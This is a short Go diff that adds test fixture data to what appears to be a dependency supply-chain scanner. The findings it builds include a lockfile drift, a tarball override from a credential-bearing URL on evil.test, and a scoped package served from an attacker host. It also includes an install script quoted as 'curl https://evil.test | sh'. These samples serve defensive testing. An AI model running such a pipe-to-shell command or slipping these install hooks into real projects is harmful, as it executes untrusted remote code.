@@ -135,6 +135,15 @@ func ill() Input {
 		flag("old", FlagScript, "runs a script when it is installed", "base", 90))
 	in.NPM = &NPM{Locks: []Lock{{Manager: "npm", Version: "1", Fault: "is of lockfileVersion 1, which says little", Bundled: 2, Position: at("package-lock.json", 3, 22)},
 		{Manager: "bun", Fault: "is binary, so that the packages in it are not judged", Position: at("bun.lockb", 0, 0)}}}
+	in.NPM.Locks[0].Beside, in.NPM.Locks[1].Beside = []string{"yarn.lock"}, []string{}
+	odd := PlaceOf("https://u:p@evil.test/odd.tgz")
+	in.NPM.Drifts = []Drift{{Name: "left-pad", Wanted: "^2", Locked: "^1", Lock: "package-lock.json", Origin: "change", Position: at("package.json", 5, 17)}}
+	in.NPM.Overrides = []Override{{Place: odd, Setting: "overrides", Name: "odd", Kind: "tarball", Origin: "change", Position: at("package.json", 8, 12)}}
+	in.NPM.Managers = []Manager{{Setting: "packageManager", Name: "yarn", Exact: true, Place: &odd, Origin: "base", Position: at("package.json", 11, 21)}}
+	in.NPM.Scripts = []Script{{Name: "install", Kind: "pipe", Fault: `runs "curl https://evil.test | sh", which runs what it downloads`, Origin: "change", Position: at("package.json", 14, 16)}}
+	own := flag("@corp/a", FlagScope, "has one of your own names and comes from evil.test, not from npm.corp.test", "base", 100)
+	own.ListSet = true
+	in.Flagged = append(in.Flagged, own)
 	action := func(kind, command, fault, origin string, line int, places ...Place) Action {
 		return Action{Kind: kind, Ecosystem: "npm", Command: command, Fault: fault, Origin: origin, Places: append([]Place{}, places...), Position: at(".github/workflows/ci.yml", line, 14)}
 	}
